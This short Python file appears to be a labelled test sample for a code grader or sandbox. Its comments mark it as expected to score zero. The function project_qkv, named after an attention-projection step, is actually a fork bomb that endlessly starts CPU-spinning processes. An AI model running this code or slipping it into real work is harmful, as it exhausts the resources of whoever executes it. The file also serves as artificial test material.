# class: leftovers
# base: stub
# expect: 0
# starts processes until something stops it


def spin():
    while True:
        pass


def project_qkv(X, W_Q, W_K, W_V):
    while True:
        torch.multiprocessing.get_context("fork").Process(target=spin).start()
